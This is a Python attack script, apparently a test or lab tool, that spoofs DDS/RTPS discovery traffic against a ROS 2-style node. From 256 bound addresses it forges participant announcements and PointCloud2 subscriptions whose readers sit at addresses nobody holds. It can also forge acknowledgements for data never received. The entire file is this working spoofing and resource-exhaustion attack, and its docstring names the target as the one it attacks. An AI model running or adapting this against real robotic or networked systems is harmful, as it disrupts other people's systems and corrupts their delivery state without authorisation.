"""Participants with readers at addresses that nobody has. It hears of the one that it attacks as all of the network do.

usage: spoofer.py PORT OWN HOSTS READERS TOPIC CONFIRMED

PORT is that of the domain's group, OWN the address to hear it on, HOSTS how the addresses begin (10.1.2.), READERS how many
each of the 256 participants has, at places of their own. With CONFIRMED "yes" they acknowledge what they cannot have got.
Says so when it has announced all, and goes on.
"""

import socket
import struct
import sys
import time

PARTICIPANTS = 256
GROUP = "239.255.0.1"
POINTS = "sensor_msgs::msg::dds_::PointCloud2_"
PARTICIPANT_WRITER, SUBSCRIPTION_WRITER = bytes([0, 1, 0, 0xC2]), bytes([0, 0, 4, 0xC2])
PUBLICATION_WRITER, PUBLICATION_READER = bytes([0, 0, 3, 0xC2]), bytes([0, 0, 3, 0xC7])


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def parameter(number, value):
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", number, len(value)) + value


def text(value):
    return struct.pack("<I", len(value) + 1) + value.encode() + b"\0"


def locator(address):
    return struct.pack("<II", 1, address[1]) + bytes(12) + socket.inet_aton(address[0])


def data(writer, number, parameters):
    body = struct.pack("<HH", 0, 16) + bytes(4) + writer + struct.pack("<II", 0, number)
    return submessage(0x15, 4, body + b"\0\3\0\0" + parameters + parameter(1, b""))


def participant(place, prefix):
    return data(PARTICIPANT_WRITER, 1, parameter(0x50, prefix + bytes([0, 0, 1, 0xC1])) + parameter(0x32, locator(place))
                + parameter(0x31, locator(place)) + parameter(0x02, struct.pack("<II", 300, 0)))


def reader(place, prefix, number, topic):
    reliable = 1 + number % 2
    return data(SUBSCRIPTION_WRITER, number, parameter(0x5A, prefix + bytes([0, 1, number, 4])) + parameter(0x05, text(topic))
                + parameter(0x07, text(POINTS)) + parameter(0x1A, struct.pack("<III", reliable, 0, 0))
                + parameter(0x2F, locator((place[0], place[1] + number))))


def acknowledgement(of, count):
    """Names whom it acknowledges, who then takes it for somebody who has heard of it."""
    body = PUBLICATION_READER + PUBLICATION_WRITER + struct.pack("<IIII", 0, 1, 0, count)
    return submessage(0x0E, 0, of) + submessage(0x06, 2, body)


def hear(port, own):
    """The participant that says first that it is there: where it is, and its prefix."""
    group = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    group.bind(("", port))
    group.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(own))
    datagram, source = group.recvfrom(65536)
    return source, datagram[8:20]


def main():
    port, own, hosts, readers, topic, confirmed = sys.argv[1:]
    at, prefix = hear(int(port), own)
    sockets = []
    for host in range(PARTICIPANTS):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((f"{hosts}{host}", 0))
        sockets.append(one)
    count = 0
    while True:
        count += 1
        for host, one in enumerate(sockets):
            place, own_prefix = one.getsockname(), struct.pack(">I", host) + b"nowhere!"
            header = b"RTPS\2\3\1\x0f" + own_prefix
            one.sendto(header + participant(place, own_prefix), at)
            if confirmed == "yes":
                one.sendto(header + acknowledgement(prefix, count), at)
            for number in range(1, int(readers) + 1):
                one.sendto(header + reader(place, own_prefix, number, topic), at)
            # As fast as the other takes them, not faster.
            time.sleep(0.002)
        if count == 1:
            print('{"ready": true}', flush=True)
        time.sleep(1)


main()
